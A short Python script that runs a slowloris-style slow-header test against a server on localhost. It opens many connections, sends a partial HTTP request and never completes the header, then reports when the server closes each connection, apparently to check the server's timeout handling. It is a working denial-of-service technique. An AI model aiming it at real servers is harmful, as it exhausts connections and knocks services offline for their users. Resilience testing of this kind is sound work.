#!/usr/bin/env python3
# usage: slowloris.py PORT [N=64] [DURATION=20]
# Opens N connections, sends "GET / HTTP/1.1\r\nHost: x\r\n", then one byte per second
# (cycling through the valid header line "X-a: b\r\n", never sending the blank line that
# ends the header). Reports when/if the server closes each connection.
import socket, sys, time, select
port = int(sys.argv[1]); n = int(sys.argv[2]) if len(sys.argv) > 2 else 64
dur = float(sys.argv[3]) if len(sys.argv) > 3 else 20
drip = b"X-a: b\r\n"
t0 = time.time(); socks = {}; closed = {}; connect_fail = 0
for i in range(n):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=2)
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n"); s.setblocking(False); socks[s] = i
    except OSError as e:
        connect_fail += 1
print(f"[slowloris] opened {len(socks)}/{n} (connect failures {connect_fail}) in {time.time()-t0:.2f}s", flush=True)
k = 0; nxt = time.time() + 1
while time.time() - t0 < dur and socks:
    r, _, _ = select.select(list(socks), [], [], max(0, nxt - time.time()))
    for s in r:
        try: d = s.recv(4096)
        except OSError: d = b""
        if not d:  # server closed (or reset) -- a 408/400 reply also ends with close
            closed[socks.pop(s)] = time.time() - t0; s.close()
        # else: server sent something (e.g. 408) -- keep reading until close
    if time.time() >= nxt:
        b = drip[k % len(drip):k % len(drip) + 1]; k += 1
        for s in list(socks):
            try: s.send(b)
            except OSError:
                closed[socks.pop(s)] = time.time() - t0; s.close()
        nxt += 1
if closed:
    ts = sorted(closed.values())
    print(f"[slowloris] server closed {len(closed)}/{n} slow conns; first at {ts[0]:.1f}s, last at {ts[-1]:.1f}s", flush=True)
else:
    print(f"[slowloris] server closed 0/{n} slow conns within {dur:.0f}s", flush=True)
print(f"[slowloris] still open at end: {len(socks)}", flush=True)
